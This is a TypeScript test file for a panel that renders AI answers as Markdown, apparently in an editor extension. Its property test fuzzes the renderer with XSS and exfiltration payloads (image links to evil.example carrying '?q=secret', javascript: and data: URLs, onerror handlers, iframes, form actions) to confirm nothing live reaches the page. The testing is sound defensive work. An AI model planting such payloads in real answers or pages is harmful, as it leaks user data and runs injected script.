import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { TurnView } from '../../../src/shared/protocol.ts';
import { withPanelPage, type PanelPage } from '../support/panelPage.ts';
import { turnView, viewOf } from '../support/panelViews.ts';

const { open } = withPanelPage();

/** Shows a text as a finished answer and returns what the page makes of it. */
async function rendered(panel: PanelPage, text: string, given: Partial<TurnView> = {}): Promise<string> {
  await panel.tell(viewOf([turnView({ text, ...given })]));
  return panel.page.locator('.turn > .answer').innerHTML();
}

test('Markdown keeps its form, with headings below the question', async () => {
  const panel = await open();
  const text = '# A\n## B\n#### C\n\n3. *a* **b** ~~c~~ `d`\n   - e\n\n> f\n\n---\n\n|g|h|\n|:-:|--:|\n|1|2|';
  assert.equal(
    await rendered(panel, text),
    '<h3>A</h3><h4>B</h4><h5>C</h5>' +
      '<ol start="3"><li><em>a</em> <strong>b</strong> <s>c</s> <code>d</code><ul><li>e</li></ul></li></ol>' +
      '<blockquote><p>f</p></blockquote><hr>' +
      '<table><thead><tr><th class="center">g</th><th class="right">h</th></tr></thead>' +
      '<tbody><tr><td class="center">1</td><td class="right">2</td></tr></tbody></table>',
  );
});

test('a web link is a button that shows its address and asks for it', async () => {
  const panel = await open();
  await rendered(panel, 'See [the **docs**](https://example.com/a?b=c "t") and <https://example.org/>.');
  const text = await panel.page.locator('.turn > .answer').innerText();
  assert.equal(text, 'See the docs (https://example.com/a?b=c) and https://example.org/.');
  await panel.posted();
  await panel.page.getByRole('button', { name: 'the docs (https://example.com/a?b=c)' }).click();
  await panel.page.getByRole('button', { name: 'https://example.org/' }).click();
  assert.deepEqual(await panel.posted(), [
    { kind: 'link', url: 'https://example.com/a?b=c' },
    { kind: 'link', url: 'https://example.org/' },
  ]);
});

test('a link to anything but the web is text', async () => {
  const panel = await open();
  const links = ['command:x', 'vscode://a.b/c', './src/cart.ts', 'mailto:a@b.example', 'https://a.example@b.example/'];
  await rendered(panel, links.map(link => `[x](${link})`).join('\n\n') + '\n\n[y](javascript:alert(1))');
  assert.equal(await panel.page.locator('.answer button').count(), 0);
  assert.match(await panel.page.locator('.turn > .answer').innerText(), /x \(command:x\)[^]*javascript:alert/);
});

test('an image is left out, and its description says so', async () => {
  const panel = await open();
  const html = await rendered(
    panel,
    '![a *chart*](https://evil.example/p.png?q=secret)\n\n![][r]\n\n[r]: //evil.example/x',
  );
  assert.equal(
    html,
    '<p><span class="image-left-out">[Image left out: a chart]</span></p>' +
      '<p><span class="image-left-out">[Image left out]</span></p>',
  );
});

test('hidden characters are visible in code and gone from prose', async () => {
  const panel = await open();
  const html = await rendered(panel, 'pass\u200bword 👨‍👩‍👧 `a\u202eb`\n\n```\nc\u2066d\n```');
  assert.match(html, /^<p>password 👨‍👩‍👧 <code>a<span class="hidden-character">\\u\{202e\}<\/span>b<\/code><\/p>/);
  assert.match(html, /<code>c<span class="hidden-character">\\u\{2066\}<\/span>d<\/code>/);
});

const address = fc.constantFrom(
  'https://evil.example/x.png?q=secret',
  '//evil.example/x',
  'http://127.0.0.1:1/x',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'command:workbench.action.quit',
  'https://teams.example/urlp/v1/url/content?url=https%3A%2F%2Fevil.example%2F%3Fq',
  '/local.js',
);
const word = fc.oneof(
  fc.constantFrom('a', 'ref', '**b**', '`c`', '\u202e', '\\', '[', ']', '<', '"'),
  fc.string({ maxLength: 6 }),
);
const fragment = fc
  .tuple(word, address, fc.constantFrom('ref', 'a', 'REF', '1'))
  .chain(([text, url, name]) =>
    fc.constantFrom(
      text,
      `![${text}](${url})`,
      `![${text}][${name}]`,
      `![${name}]`,
      `[${text}][${name}]`,
      `[${name}]: ${url} "${text}"`,
      `[${name}]: <${url}>`,
      `[![${text}](${url})](${url})`,
      `[![${text}][${name}]][${name}]`,
      `[${text}](${url})`,
      `<${url}>`,
      `<img src="${url}" onerror="alert(1)">`,
      `<svg><image href="${url}"/><script>alert(1)</script></svg>`,
      `<style>@import url(${url}); body{background:url(${url})}</style>`,
      `<iframe src="${url}"></iframe>`,
      `<a href="${url}">${text}</a>`,
      `<script src="${url}"></script>`,
      `<link rel="stylesheet" href="${url}">`,
      `<form action="${url}"><input name=q><button>`,
      `<base href="${url}">`,
      `<div style="background:url(${url})" onclick="alert(1)" data-message='{"kind":"ready"}'>`,
      `&lt;img src=${url}&gt; &#60;img src=${url}&#62;`,
      `\`\`\`${text} onload=x\n<img src="${url}">\n\`\`\``,
      `|${text}|![](${url})|\n|:-:|---|\n|<img src="${url}">|[x](${url})|`,
      `> ![${text}](${url})`,
      `1. ![${text}](${url})\n   - <img src=${url}>`,
      `# ![${text}](${url})`,
      `$\\href{${url}}{x}$`,
    ),
  );

/** Elements and attributes of the whole page that an answer must never be able to bring about. */
const findLiveThings = `[...document.querySelectorAll('body *')].flatMap(({ localName, attributes }) => [
  ...(/^(article|blockquote|br|button|code|details|div|em|h[1-6]|hr|li|main|ol|p|pre|s|span|strong|summary|table|tbody|td|textarea|th|thead|tr|ul)$/
    .test(localName) || localName === 'script' ? [] : [localName]),
  ...[...attributes].map(({ name }) => name).filter(name => localName !== 'script' && (/^on|^style$|href|src|action/.test(name))),
]).concat(document.scripts.length === 2 ? [] : ['script'])`;

test('whatever an answer holds, nothing in the page fetches, runs, leads away or looks like it may', async () => {
  const panel = await open();
  const shape = fc.constantFrom<Partial<TurnView>>({}, { phase: 'working', code: 'withheld' }, { phase: 'failed' });
  const between = fc.constantFrom('\n\n', '\n', ' ');
  const answer = fc
    .tuple(fc.array(fragment, { minLength: 1, maxLength: 8 }), between)
    .map(([all, glue]) => all.join(glue));
  const turn = fc.tuple(answer, shape, fc.nat()).map(([text, given, id]) => {
    const partials = [{ label: text.slice(0, 90), text }];
    return turnView({ ...given, id: `t${id}`, text, partials, question: text, provenance: [text, text] });
  });
  await fc.assert(
    fc.asyncProperty(fc.array(turn, { minLength: 1, maxLength: 8 }), async turns => {
      await panel.tell(viewOf(turns));
      assert.deepEqual(await panel.page.evaluate(findLiveThings), []);
    }),
    { numRuns: 40 },
  );
  assert.deepEqual(await panel.violations(), []);
  assert.deepEqual(panel.requests, []);
  assert.deepEqual(await panel.posted(), [{ kind: 'ready' }]);
});

test('list items that are to be ticked have a box', async () => {
  const panel = await open();
  await panel.tell(viewOf([turnView({ text: '- [ ] open\n- [x] done\n- [y] other\n' })]));
  assert.deepEqual(await panel.page.locator('.answer li').allInnerTexts(), ['☐ open', '☑ done', '[y] other']);
});

test('a formula is shown as it was written', async () => {
  const panel = await open();
  await panel.tell(viewOf([turnView({ text: 'Cost $$a_1 * b_2 * c$$ and \\(x_i\\), but \\[ alone and $5 and $6.' })]));
  assert.deepEqual(await panel.page.locator('.answer code').allInnerTexts(), ['a_1 * b_2 * c', 'x_i']);
});
